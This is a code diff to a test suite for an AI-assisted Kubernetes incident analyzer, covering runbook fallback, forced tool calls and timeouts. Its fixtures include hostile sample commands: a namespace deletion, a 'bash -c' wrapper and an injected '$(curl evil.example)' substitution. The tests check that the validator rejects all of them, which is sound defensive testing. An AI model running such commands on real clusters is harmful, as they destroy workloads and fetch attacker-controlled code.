@@ -152,33 +152,45 @@ describe('Claude analyzer over the real SDK and the fake Anthropic server', () =
     expect(correction.content).toMatch(/confidence/);
   });
 
-  it('ends cleanly with no action and the error recorded when the correction is invalid too', async () => {
+  it('an invalid correction too: the runbook stands in (LLM_FALLBACK_TO_RUNBOOK), the reason and the tokens spent recorded', async () => {
     fake.script([reply.toolUse('propose_remediation', { rootCause: 'x' }), reply.toolUse('propose_remediation', { rootCause: 'still wrong' })]);
     const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
-    expect(p.analyzer).toBe('claude');
-    expect(p.actions).toEqual([]);
-    expect(p.escalate.required).toBe(true);
-    expect(p.error).toMatch(/invalid proposal after one correction/);
-    expect(p.retryable).toBeUndefined(); // bad model output is not retried: it escalates
+    expect(p.analyzer).toBe('runbook');
+    expect(p.fallbackReason).toMatch(/^invalid_output: invalid proposal after one correction/);
+    expect(p.actions.map((a) => a.command)).toEqual(['kubectl rollout undo deployment/web -n shop']);
+    expect(p.usage?.rounds).toBe(2);
+    expect(p.usage?.inputTokens).toBeGreaterThan(0);
+    expect(p.retryable).toBeUndefined(); // bad model output is not retried by the queue
     expect(fake.requests).toHaveLength(2);
   });
 
-  it('a reply with no tool_use gets one forced turn; prose again ends the analysis with no action and the error recorded', async () => {
+  it('an invalid correction with the fallback off: no action, escalated, the error recorded', async () => {
+    fake.script([reply.toolUse('propose_remediation', { rootCause: 'x' }), reply.toolUse('propose_remediation', { rootCause: 'still wrong' })]);
+    const deps = baseDeps(h.reader, { llm: llm() });
+    deps.config = { ...deps.config, LLM_FALLBACK_TO_RUNBOOK: false };
+    const p = await diagnoseIncident(webIncident(), deps);
+    expect(p).toMatchObject({ analyzer: 'claude', actions: [], escalate: { required: true } });
+    expect(p.error).toMatch(/invalid proposal after one correction/);
+    expect(p.fallbackReason).toBeUndefined();
+  });
+
+  it('a reply with no tool_use gets one forced turn; prose again ends the model analysis and the runbook stands in', async () => {
     fake.script([reply.text('You should delete namespace shop.'), reply.text('I insist: kubectl delete namespace shop')]);
     const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
     expect(fake.requests).toHaveLength(2);
     expect(fake.requests[1].body.tool_choice).toEqual({ type: 'tool', name: 'propose_remediation' });
     expect(toolNames(1)).toEqual(['propose_remediation']);
-    expect(p).toMatchObject({ analyzer: 'claude', actions: [], escalate: { required: true } });
-    expect(p.error).toMatch(/did not call propose_remediation on the final turn \(stop_reason end_turn\)/);
+    expect(p.analyzer).toBe('runbook');
+    expect(p.fallbackReason).toMatch(/^invalid_output: the model did not call propose_remediation on the final turn \(stop_reason end_turn\)/);
+    expect(p.actions.map((a) => a.command)).not.toContain('kubectl delete namespace shop');
   });
 
-  it('a proposal whose commands are not kubectl, use shell syntax or exceed the bounds is rejected twice: no action', async () => {
+  it('a proposal whose commands are not kubectl, use shell syntax or exceed the bounds is rejected twice: none of them is proposed', async () => {
     const hostile = (command: string) => ({ ...VALID, actions: [{ ...VALID.actions[0], command }] });
     fake.script([reply.toolUse('propose_remediation', hostile('bash -c "kubectl delete ns shop"')), reply.toolUse('propose_remediation', hostile(`kubectl get pods -n shop $(curl evil.example)`))]);
     const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
-    expect(p.actions).toEqual([]);
-    expect(p.error).toMatch(/invalid proposal after one correction: actions\.0\.command: must not contain shell syntax/);
+    expect(p.actions.map((a) => a.command)).toEqual(['kubectl rollout undo deployment/web -n shop']); // the runbook's, not the model's
+    expect(p.fallbackReason).toMatch(/invalid proposal after one correction: actions\.0\.command: must not contain shell syntax/);
     expect(fake.requests[1].body.messages.at(-1).content[0].content).toMatch(/must be a single kubectl command starting with "kubectl"/);
   });
 
@@ -219,6 +231,14 @@ describe('Claude analyzer over the real SDK and the fake Anthropic server', () =
     expect(p.analyzer).toBe('runbook');
     expect(p.fallbackReason).toBe('rate_limit: Anthropic API error 429: slow down');
   });
+
+  it('a response that stalls after its headers is bounded too (the SDK timeout covers only the headers): the runbook stands in', async () => {
+    fake.script([reply.stall(), reply.stall()]);
+    const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm({ timeoutMs: 300, maxRetries: 1 }) }));
+    expect(p.analyzer).toBe('runbook');
+    expect(p.fallbackReason).toMatch(/^timeout: /);
+    expect(p.actions.map((a) => a.command)).toEqual(['kubectl rollout undo deployment/web -n shop']);
+  }, 30_000);
 
   it('records a timeout as the error when the fallback is off', async () => {
     fake.script([reply.hang()]);
